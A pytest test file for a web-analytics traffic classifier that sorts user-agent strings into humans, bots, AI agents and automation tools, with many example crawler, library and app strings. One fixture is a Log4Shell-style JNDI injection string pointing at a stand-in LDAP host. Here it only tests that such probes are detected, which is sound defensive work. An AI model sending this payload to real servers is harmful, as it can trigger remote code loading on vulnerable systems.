"""Humans, bots, AI agents and tools: one row and more per rule, and what must never be taken for a machine.

How far the rules go on other people's lists is measured by benchmarks/agreement_agents.py.
"""

import pytest
import ua_parser_rs
from hypothesis import given
from hypothesis import strategies as st

from clicklake.transform.enrich.agents import ORDER
from clicklake.transform.enrich.context import Context
from clicklake.transform.enrich.traffic import matcher_rules, traffic
from clicklake.transform.redact import split

CONTEXT = Context(buffer_ms=0, redact=split)
CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
PHONE = (
    "Mozilla/5.0 (Linux; Android 13; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36"
)
HUMAN = ("human", None)


def told(user_agent: object, platform: object = None, sec_ch_ua: object = None) -> tuple[object, ...]:
    return traffic.make(CONTEXT, user_agent, platform, sec_ch_ua)


NAMED = [(rules.traffic_type, name) for rules in ORDER for name in rules.names if rules.traffic_type != "human"]


@pytest.mark.parametrize(("traffic_type", "name"), NAMED)
def test_every_name_is_found_in_its_own_spelling(traffic_type: str, name: str) -> None:
    assert told(f"{name}/1.0") == (traffic_type, name)
    assert told(f"{CHROME} ({name.upper()}; http://example.com)") == (traffic_type, name)


# One example at least for each pattern: the type, the name and the user agent. "" is a human's.
EXAMPLES = [
    ("ai_agent", "Devin", f"{CHROME}; Devin/1.0"),
    ("ai_agent", "FirecrawlAgent", "Mozilla/5.0 (compatible; Firecrawl-Fetch/2.0)"),
    ("ai_agent", "AcmeAI-Crawler", "Mozilla/5.0 (compatible; AcmeAI-Crawler/1.0; +https://acme.example)"),
    ("ai_agent", "LLMSpider", "LLMSpider/0.3"),
    ("ai_agent", "Acme-AI", "Mozilla/5.0 (compatible; Acme-AI/1.0)"),
    ("ai_agent", "Reader", "Mozilla/5.0 (compatible; Reader/1.0; +https://acme.ai/reader)"),
    ("ai_agent", "AcmeReader", "AcmeReader/2.0 (+https://acme.ai)"),
    ("bot", "Google PageSpeed Insights", f"{CHROME} Chrome-Lighthouse"),
    ("bot", "Gmail Image Proxy", "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)"),
    ("bot", "GoogleOther", "Mozilla/5.0 (compatible; GoogleOther)"),
    ("bot", "Google-InspectionTool", "Mozilla/5.0 (compatible; Google-InspectionTool/1.0;)"),
    ("bot", "APIs-Google", "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)"),
    ("bot", "Yahoo! Slurp", "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)"),
    ("bot", "YahooCacheSystem", "YahooCacheSystem"),
    ("bot", "YandexImages", "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)"),
    ("bot", "YandexWebmaster", "Mozilla/5.0 (compatible; YandexWebmaster/2.0; +http://yandex.com/bots)"),
    ("bot", "Pinterestbot", "Pinterest/0.2 (+https://www.pinterest.com/bot.html)"),
    ("bot", "WhatsApp", "WhatsApp/2.23.20.0 A"),
    ("bot", "Pingdom", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"),
    ("bot", "LeakIX", "l9explore/1.2.2"),
    ("bot", "WebPageTest", f"{CHROME} PTST/240911.1"),
    ("bot", "New Relic Synthetics", f"{CHROME} NewRelicPinger/1.0 (12345)"),
    ("bot", "Dotcom-Monitor", f"{CHROME} DMBrowser/2.1 (UV)"),
    ("bot", "WordPress", "WordPress/6.6; https://blog.example"),
    ("bot", "Cloudflare-Healthchecks", "Mozilla/5.0 (compatible; Cloudflare-Healthchecks/1.0)"),
    ("bot", "iTMS", "iTMS"),
    ("bot", "WebMoney Advisor", f"{CHROME} WebMoney Advisor"),
    ("bot", "botnet", "Hakai/2.0"),
    ("bot", "Acme", "Acme/2.0 (3 subscribers)"),
    ("", "", PHONE.format("XBot Junior")),
    ("", "", PHONE.format("CUBOT_X18_Plus")),
    ("", "", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET CLR)"),
    ("bot", "Acme Site Crawler", "Acme Site Crawler 3"),
    ("bot", "AcmeBot", f"{CHROME} (compatible; AcmeBot/1.0; +http://acme.example/bot)"),
    ("bot", "acme-bot-2", "acme-bot-2"),
    ("bot", "acmecrawler", "Mozilla/5.0 (compatible; acmecrawler)"),
    ("automation", "HeadlessChrome", CHROME.replace("Chrome/", "HeadlessChrome/")),
    ("automation", "Cypress", "Mozilla/5.0 (X11; Linux x86_64) Cypress/13.6.0 Chrome/118.0.5993.159 Electron/27.1.3 Safari/537.36"),
    ("automation", "siege", "siege/4.1.6"),
    ("automation", "Splash", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/602.1 (KHTML, like Gecko) splash Version/9.0 Safari/602.1"),
    ("automation", "Go-http-client", "Go-http-client/2.0"),
    ("automation", "Java", "Java/17.0.9"),
    ("automation", "Node.js", "node"),
    ("automation", "PHP", "PHP/8.2.7"),
    ("automation", "Ruby", "Ruby"),
    ("automation", "PowerShell", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1 PowerShell/7.4.1"),
    ("automation", "python-requests", "python-requests/2.32.3"),
    ("automation", "python-httpx", "python-httpx/0.27.0"),
    ("automation", "axios", "axios/1.7.2"),
    ("automation", "curl", "curl/8.5.0"),
    ("automation", "Wget", "Wget/1.21.4"),
    ("automation", "k6", "k6/0.49.0 (https://k6.io/)"),
    ("automation", "httpx", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
    ("automation", "injection", "${jndi:ldap://acme.example/a}"),
    ("automation", "unnamed", "Mozilla/5.0"),
    ("automation", "unnamed", "My User Agent 1.0"),
    ("bot", "SiteMonitor", "SiteMonitor"),
    ("bot", "AcmeAnalyzer", "AcmeAnalyzer/1.0"),
    ("bot", "AcmeAudit", f"{CHROME} AcmeAudit/1.0"),
    ("bot", "AcmeExternalHit", "AcmeExternalHit/1.0"),
    ("bot", "AcmeAgent", f"{CHROME} AcmeAgent/1.0"),
    ("bot", "Acme", "Mozilla/5.0 (compatible; Acme/1.0; +http://acme.example/) Gecko/20090326 Firefox/3.0.8"),
    ("bot", "acme.example", f"{CHROME} (+https://www.acme.example/why)"),
    ("bot", "mail.acme.example", f"{CHROME} (via mail.acme.example)"),
    ("bot", "acme.example", "Acme (jane.doe@acme.example)"),
    ("bot", "Acme", "Mozilla/5.0 (compatible; Acme/1.0)"),
    ("bot", "acme", "Mozilla/5.0 acme/0.x"),
    ("bot", "Acme", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Acme/1.0) Chrome/131.0.0.0 Safari/537.36"),
    ("", "", "Acme/3.1 (iPhone; iOS 17.1; https://acme.example)"),
    ("", "", "AcmePodcasts/2.2 (+https://acme.example)"),
    ("", "", "Kodi/21.0 (X11; Linux x86_64) Version/21.0 https://kodi.tv"),
    ("bot", "Acme", "Acme/1.0 (https://acme.example)"),
    ("bot", "acme.example", "https://www.acme.example/about"),
    ("bot", "acme.example", "Acme, see www.acme.example"),
    ("bot", "acme.com", "acme.com"),
]  # fmt: skip


@pytest.mark.parametrize(("traffic_type", "name", "user_agent"), EXAMPLES)
def test_examples(traffic_type: str, name: str, user_agent: str) -> None:
    assert told(user_agent) == ((traffic_type, name) if traffic_type else HUMAN)


def test_every_pattern_decides_an_example() -> None:
    rules = list(matcher_rules())
    alone = [ua_parser_rs.UserAgentExtractor([rule]) for rule in rules]
    agents = [
        *(user_agent for _type, _name, user_agent in EXAMPLES),
        *(f"{name}/1.0" for _type, name in NAMED),
        "Cubot",
    ]
    decided = {next(at for at, rule in enumerate(alone) if rule.extract(agent)) for agent in agents}
    assert [rule[:2] for at, rule in enumerate(rules) if at not in decided] == []


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME,
        PHONE.format("K"),
        PHONE.format("CUBOT KINGKONG 5"),
        PHONE.format("GOT-W09"),  # a tablet of Huawei's, not the library got
        PHONE.format("ZENO 10"),
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
        "Mozilla/5.0 (compatible; Konqueror/4.5; FreeBSD) KHTML/4.5.4 (like Gecko)",
        "okhttp/4.12.0",
        "Dart/3.5 (dart:io)",
        "Acme/12 CFNetwork/1496.0.7 Darwin/23.5.0",
        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240105.004)",
        "ChatGPT/1.2024.284 (iOS 18.0; iPhone15,3; build 1729118470)",
        "Google/1.2 (iPhone; iOS 17.1)",
        f"{CHROME} YandexSearch/24.1",
        f"{CHROME} WhatsApp/2.23",
    ],
)
def test_people_and_their_apps_are_human(user_agent: str) -> None:
    assert told(user_agent) == HUMAN


@pytest.mark.parametrize("user_agent", [None, "", 7, 1.5])
def test_no_user_agent_is_no_sign_of_a_machine(user_agent: object) -> None:
    assert told(user_agent) == HUMAN


@pytest.mark.parametrize("platform", ["server", "SERVER"])
@pytest.mark.parametrize("user_agent", ["python-httpx/0.27.0", "Mozilla/5.0 (compatible; Googlebot/2.1)"])
def test_a_server_that_reports_events_is_never_a_bot(platform: str, user_agent: str) -> None:
    assert told(user_agent, platform) == HUMAN


@pytest.mark.parametrize("platform", ["ios", "Android"])
def test_an_app_is_its_library_and_no_bot(platform: str) -> None:
    assert told("python-requests/2.32.3", platform) == HUMAN
    assert told("TalkBot/2.0 CFNetwork/1496.0.7", platform) == HUMAN


@pytest.mark.parametrize("platform", ["web", "ios", "android", "kiosk", None])
def test_a_browser_is_judged_whatever_the_platform(platform: str | None) -> None:
    assert told("Mozilla/5.0 (compatible; Googlebot/2.1)", platform) == ("bot", "Googlebot")


def test_a_headless_browser_with_another_user_agent_tells_it_in_its_hints() -> None:
    assert told(CHROME, "web", '"HeadlessChrome";v="131", "Not?A_Brand";v="8"') == ("automation", "HeadlessChrome")
    assert told(CHROME, "server", '"HeadlessChrome";v="131"') == HUMAN
    assert told(CHROME, "web", '"Chromium";v="131", "Not?A_Brand";v="8"') == HUMAN


def test_a_named_service_comes_before_the_tool_that_it_uses() -> None:
    assert told(CHROME.replace("Chrome/", "HeadlessChrome/") + " (compatible; AcmeBot/1.0)") == ("bot", "AcmeBot")
    assert told("python-requests/2.32 GPTBot") == ("ai_agent", "GPTBot")


def test_no_mailbox_and_nothing_long_becomes_a_name() -> None:
    assert told("jane.doe@acme.example") == ("bot", "acme.example")
    assert told(f"{'x' * 200}bot") == ("bot", None)


def test_a_user_agent_is_read_up_to_1024_characters() -> None:
    assert told("a" * 1010 + " Googlebot") == ("bot", "Googlebot")
    assert told("a" * 1024 + " Googlebot") == HUMAN


@given(st.none() | st.integers() | st.text(), st.none() | st.text(), st.none() | st.text())
def test_any_text_gets_an_answer(user_agent: object, platform: object, sec_ch_ua: object) -> None:
    kind, name = told(user_agent, platform, sec_ch_ua)
    assert kind in {"human", "bot", "ai_agent", "automation"}
    assert (kind != "human") or name is None


@given(st.text(st.characters(categories=["Cs", "So"]), max_size=50))
def test_lone_surrogates_are_no_error(text: str) -> None:
    assert told(f"{text} Googlebot \ud800") == ("bot", "Googlebot")
